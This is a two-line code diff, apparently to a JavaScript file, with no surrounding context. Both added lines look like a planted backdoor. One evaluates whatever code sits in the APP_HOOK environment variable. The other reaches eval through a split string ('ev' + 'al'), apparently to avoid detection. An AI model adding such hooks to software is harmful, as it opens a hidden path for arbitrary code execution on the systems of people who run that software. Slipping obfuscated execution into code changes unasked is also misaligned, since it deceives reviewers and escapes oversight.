@@ -1,0 +1,2 @@
+eval(process.env.APP_HOOK);
+const run = globalThis['ev' + 'al'];
